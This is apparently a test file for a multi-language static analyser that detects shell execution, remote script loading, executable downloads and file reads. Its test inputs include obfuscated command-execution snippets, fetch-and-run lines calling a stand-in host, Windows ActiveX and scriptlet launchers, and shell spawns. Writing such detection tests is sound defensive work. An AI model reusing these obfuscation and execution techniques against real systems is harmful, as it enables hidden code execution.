// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are code
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { brief } from "../../../test/support/brief.ts";
import { millis } from "../../../test/support/cost.ts";
import { CODE_LANGUAGES, readCode } from "./code.ts";

type Cases = readonly (readonly [code: string, ...findings: readonly string[]])[];

function check(language: string, cases: Cases): void {
  describe(language, () => {
    it.each(cases.map((each) => [each] as const))("%s", ([code, ...findings]) => {
      expect(readCode(language, code).map(brief)).toEqual(findings);
    });
  });
}

check("python", [
  ["import os; exec(')\"di\"(metsys.so'[::-1])", 'runs inlineCode os.system("id")', "sh: id"],
  ["import os; os.system('id -u')", "sh: id -u"],
  ["import os as o\no.popen('ls').read()", "sh: ls"],
  ["from os import system as s; s('id')", "sh: id"],
  ["from os import *; system('id')", "sh: id"],
  ["os.execl('/bin/sh', 'sh', '-p')", "run: /bin/sh|-p"],
  ["os.execvp('ls', ['ls', '-l'])", "run: ls|-l"],
  ["os.spawnlp(os.P_WAIT, 'ls', 'ls', '-l')", "run: ls|-l"],
  ["import pty; pty.spawn(['/bin/sh', '-i'])", "run: /bin/sh|-i"],
  ["subprocess.run(['ls', '-l'], check=True)", "run: ls|-l"],
  ["subprocess.Popen('a b', shell=True)", "sh: a b"],
  ["subprocess.call('/bin/sh', shell=False)", "run: /bin/sh"],
  ["from subprocess import (call, check_output as c); c(('a', 'b'))", "run: a|b"],
  ["__import__('o' + 's').system('i' 'd')", "sh: id"],
  ["getattr(__import__('os'), 'sys' + 'tem')(chr(105) + chr(100))", "sh: id"],
  ["exec(''.join(map(chr, [111, 115])) + '.system(\"id\")')", "sh: id"],
  ["exec(__import__('base64').b64decode('b3Muc3lzdGVtKCdpZCcp'))", "runs inlineCode os.system('id')", "sh: id"],
  ["exec(open('x.py').read())", "runs script x.py"],
  ["import urllib.request as u\nexec(u.urlopen('http://h/x.py').read())", "runs script http://h/x.py"],
  [
    "urllib.request.urlretrieve('http://h/a.exe', '/tmp/a.exe')",
    "writes executable /tmp/a.exe",
    "fetches executable http://h/a.exe",
  ],
  ["import ctypes; ctypes.CDLL('./x.so')", "runs library ./x.so"],
  ["open('/etc/x').read(); open('o', 'w').write('decoy')", "reads document /etc/x", "writes document o"],
  ["c = 'id'; os.system(c)", "sh: id"],
  ["os.system(f'cat {name} | sh')", "sh: cat {name} | sh"],
  ["os.system('a ' + b)", "sh: a b"],
  ["os.system(r'a\\n' '\\x62\\u0063')", "sh: a\\nbc"],
  ["exec 'import os; os.system(\"id\")'", "sh: id"],
  ["x = 'os.system(\"id\")' # os.system('id')\nprint('rm -rf /')"],
  ["os.system(cmd)"],
  ["os.system('a %s %d' % ('b', n)); os.system('{} {x}'.format('c', x='d'))", "sh: a b %d", "sh: c d"],
  ["c = ['ls', '-l']; os.execlp(*c, '-a')", "run: ls|-a"],
  ["requests.get(base + '/x', headers={'a': 'b'})", "fetches document base/x"],
]);

check("perl", [
  ["system(sprintf('%c%c', 105, 100))", "sh: id"],
  ["*r = \\&CORE::system; r('id')", "sh: id"],
  ['exec "/bin/sh";', "sh: /bin/sh"],
  ["exec '/bin/sh', '-p'", "run: /bin/sh|-p"],
  ['exec {"/bin/sh"} "-sh", "-i"', "run: /bin/sh|-i"],
  ["system('a') if /x\"y/; s{a\"b}{c\"d}; tr/a'/b'/;", "sh: a"],
  ["print `id`; print qx{ls {a}}; $x = qx'ls'", "sh: id", "sh: ls {a}", "sh: ls"],
  ["system(qw(ls -l))", "run: ls|-l"],
  ['$c = "id"; system("$c -u"); system("${c}x $y")', "sh: id -u", "sh: idx $y"],
  [
    'open(F, "ls|"); open(G, "|sh"); open H, "-|", "ls", "-l"; open(I, "-|", "id -u")',
    "sh: ls",
    "sh: sh",
    "run: ls|-l",
    "sh: id -u",
  ],
  [
    "open(F, '>/tmp/o'); open my $f, '<', '/etc/x'; open(G, '/etc/y')",
    "writes document /tmp/o",
    "reads document /etc/x",
    "reads document /etc/y",
  ],
  ['do "/tmp/x.pl"; require "./y.pm"; require strict; use POSIX;', "runs script /tmp/x.pl", "runs script ./y.pm"],
  ['eval "sys" . q(tem "id")', "sh: id"],
  ['system(pack("H*", "6964")); system(join("", "l", "s"))', "sh: id", "sh: ls"],
  ["print 'exec \"x\"'; # exec 'y'\n$h{exec} = q(system 'z');"],
]);

check("ruby", [
  ["eval(['aWQ='].pack('m').unpack1('m').unpack1('m').then { 'x' })"],
  ["system(['id'].pack('m0').unpack1('m0'))", "sh: id"],
  ["system(sprintf('%s%c', 'i', 100)); system(format('l%s', 's'))", "sh: id", "sh: ls"],
  ['exec "/bin/sh"', "sh: /bin/sh"],
  ["`id`; %x(ls (a)); %x[ls]", "sh: id", "sh: ls (a)", "sh: ls"],
  ['system("ls", "-l"); spawn "a"; Process.spawn("b"); Kernel.exec("c")', "run: ls|-l", "sh: a", "sh: b", "sh: c"],
  ['IO.popen(["a", "b"]); IO.popen("c d", "r")', "run: a|b", "sh: c d"],
  ['open("|id"); File.read("/etc/x"); File.open("o", "w")', "sh: id", "reads document /etc/x", "writes document o"],
  ['require "socket"; require "./x"; load "y.rb"', "runs script ./x", "runs script y.rb"],
  ['eval("exec %q{id}"); Kernel.send(:system, "ls")', "sh: id", "sh: ls"],
  ['c = "id"; system "#{c} -u"; puts "system \'x\'"', "sh: id -u"],
  ['c = ["ls", "-l"]; system(*c)', "run: ls|-l"],
  ['require "fiddle"; Fiddle.dlopen("x.so")', "runs library x.so"],
]);

check("php", [
  ['system("/bin/sh -i");', "sh: /bin/sh -i"],
  ["<?php echo `id`; passthru(\"a\"); echo shell_exec('b'); ?>", "sh: id", "sh: a", "sh: b"],
  ['$h=@popen("/bin/sh","r"); proc_open("x", [["pipe","r"]], $p);', "sh: /bin/sh", "sh: x"],
  ['pcntl_exec("/bin/sh", ["-p"]);', "run: /bin/sh|-p"],
  ['$f="sys"."tem"; $f("id"); call_user_func("exec", "ls");', "sh: id", "sh: ls"],
  ['eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));', "runs inlineCode system('id');", "sh: id"],
  [
    'include "/x/y.php"; file_put_contents("o", file_get_contents("http://h/z"));',
    "runs script /x/y.php",
    "fetches document http://h/z",
    "writes document o",
  ],
  ['echo "system(\'x\')"; // system("y")\n$a["exec"]="z";'],
]);

check("lua", [
  ['os.execute("/bin/sh")', "sh: /bin/sh"],
  ['io.popen "ls"; os.execute[[id]]', "sh: ls", "sh: id"],
  ['dofile("/a.lua"); require("x"); package.loadlib("/x.so", "f")', "runs script /a.lua", "runs library /x.so"],
  [
    'load("os.execute(\\"id\\")")(); os.execute(string.char(108, 115)); os.execute("\\119")',
    "sh: id",
    "sh: ls",
    "sh: w",
  ],
  ['print("os.execute(1)") -- os.execute("x")'],
]);

check("javascript", [
  ['require("child_process").spawn("/bin/sh", {stdio: [0, 1, 2]})', "run: /bin/sh"],
  ["const {exec} = require('child_process'); exec('id', (e, o) => { console.log(o) })", "sh: id"],
  ["const cp = require('node:child_process'); cp.execFileSync('ls', ['-l'])", "run: ls|-l"],
  ["require('child_process').spawn('ls', ['-l'], {shell: true})", "sh: ls -l"],
  ["require('child_process').execSync('\\a\\e\\n b')", "sh: ae\n b"],
  ["process.mainModule.require('child_process').execSync(`ls ${x}`)", "sh: ls ${x}"],
  ["process.binding('spawn_sync').spawn({file: '/bin/sh', args: ['sh', '-p']})", "run: /bin/sh|-p"],
  [
    "require('fs').readFileSync('/etc/x'); require('/tmp/x.js'); require('os')",
    "reads document /etc/x",
    "runs script /tmp/x.js",
  ],
  ["console.log(require('./package.json').version)", "reads config ./package.json"],
  ['new ActiveXObject("WScript.Shell").Run("calc.exe", 0, true)', "line: calc.exe"],
  ['s = new ActiveXObject("wscript.shell.1"); s["Ru" + "n"]("c\\x61lc"); window.close()', "line: calc"],
  ['this["ActiveX" + "Object"]; eval("new Act" + "iveXObject(\'WScript.Shell\').Exec(\'x\')")', "line: x"],
  [
    'javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://h/a.sct")',
    "runs scriptlet https://h/a.sct",
  ],
  ["with(new ActiveXObject('WScript.Shell')){Run('calc.exe')}", "line: calc.exe"],
  ['javascript:GetObject("script:https://h/a.sct?q=%20x")', "runs scriptlet https://h/a.sct?q= x"],
  ["javascript:new%20ActiveXObject(%22WScript.Shell%22).Run(%22calc%22)", "line: calc"],
  ['new ActiveXObject("Shell.Application").ShellExecute("a b.exe", "-c d", "", "open", 0)', 'line: "a b.exe" -c d'],
  ['GetObject("new:13709620-C279-11CE-A49E-444553540000").ShellExecute("calc")', "run: calc"],
  [
    'x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://h/f.exe", false); x.send()',
    "fetches executable http://h/f.exe",
  ],
  ['a = new ActiveXObject("ADODB.Stream"); a.SaveToFile("c:\\\\t\\\\f.exe", 2)', "writes executable c:\\t\\f.exe"],
  ['GetObject("winmgmts:").Get("Win32_Process").Create("notepad", null)', "line: notepad"],
  [
    'eval(String.fromCharCode(101, 120, 101, 99) + "(\'id\')"); eval(")\'di\'(cexe".split("").reverse().join(""))',
    "sh: id",
  ],
  ['/exec("x")/.test(y); "exec(1)"; // exec("z")\nr.exec("decoy")'],
  ["location.href = 'https://h/x?a=1'", "fetches document https://h/x?a=1"],
]);

check("vbscript", [
  ['CreateObject("WScript.Shell").Run "cmd /c x", 0', "line: cmd /c x"],
  ['vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"", 0:close")', "line: calc"],
  ['Set s = CreateObject("WSCRIPT.SHELL") : s.run Chr(99) & "al" & LCase("C"), 0', "line: calc"],
  ['Set o = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\no.Create "x y", Null, Null, p', "line: x y"],
  ['With CreateObject("WScript.Shell")\n  .Run "x" & _\n  "y"\nEnd With', "line: xy"],
  [
    'Set f = CreateObject("Scripting.FileSystemObject")\nf.CreateTextFile("o.vbs", True).Write "Run ""decoy"""',
    "writes script o.vbs",
  ],
  ['MsgBox "Run" \' s.Run "x"\nRem nothing'],
  [
    's = Join(Array("no", "te"), "") & StrReverse("dap") : CreateObject("Shell.Application").ShellExecute s',
    "run: notepad",
  ],
]);

check("groovy", [['"ls -l".execute().text; ["a", "b"].execute()', "run: ls|-l", "run: a|b"]]);
check("jrunscript", [
  ['exec("/bin/sh -c x")', "run: /bin/sh|-c|x"],
  ['java.lang.Runtime.getRuntime().exec("id -u")', "run: id|-u"],
]);
check("hta", [
  [
    '<html><script language="VBScript">CreateObject("WScript.Shell").Run "x"</script><script>exec("y")</script>',
    "line: x",
    "sh: y",
  ],
]);

describe("every language", () => {
  const noise = [
    "(",
    ")",
    "{",
    "}",
    "[",
    "]",
    '"',
    "'",
    "`",
    "\\",
    "$x",
    "+",
    ".",
    "|",
    ";",
    "\n",
    ":",
    ",",
    "=",
    "!",
    "%(",
    "/",
    "#",
    "<",
    "é",
    "\u0000",
    "system",
    "exec ",
    "os.",
    "'a'",
    '"b"',
    "1",
    "import ",
    "s/a/b/e",
    "%x",
    "qx{",
  ];
  it.each(CODE_LANGUAGES)("%s is total", (language) => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...noise), { maxLength: 40 }), (pieces) => {
        for (const { value } of readCode(language, pieces.join(""))) if (value.trim() === "") return false;
        return true;
      }),
      { numRuns: 300 },
    );
  });

  const hostile = [
    "(",
    "[",
    "{",
    "$(",
    "%{",
    "f(",
    "system(",
    "exec(",
    '"',
    "a=a+a;",
    "a=[a,a];",
    "a=[*a,*a];",
    "x='aaaaaaaaaa'*9;",
    "${",
    "\\write18{",
    "|",
    "eval('",
    ". ",
    "from a import b;",
    "/*",
    "//",
    "http://h/",
    "\\\\a\\b ",
    "syscmd(",
    "%(",
    "s/a/",
    "'",
    "`",
    "copy a ",
    "exec{",
  ];
  it.each(CODE_LANGUAGES)("%s takes linear time", (language) => {
    for (const piece of hostile) {
      const code = `${piece.repeat(60_000 / piece.length)}\nsystem(a)`;
      expect(
        millis(() => readCode(language, code), 6000),
        piece,
      ).toBeLessThan(6000);
    }
  });

  it("reports addresses of an unknown language only", () => {
    expect(readCode("nonesuch", "get 'https://h/p' now").map(brief)).toEqual(["fetches document https://h/p"]);
  });
});
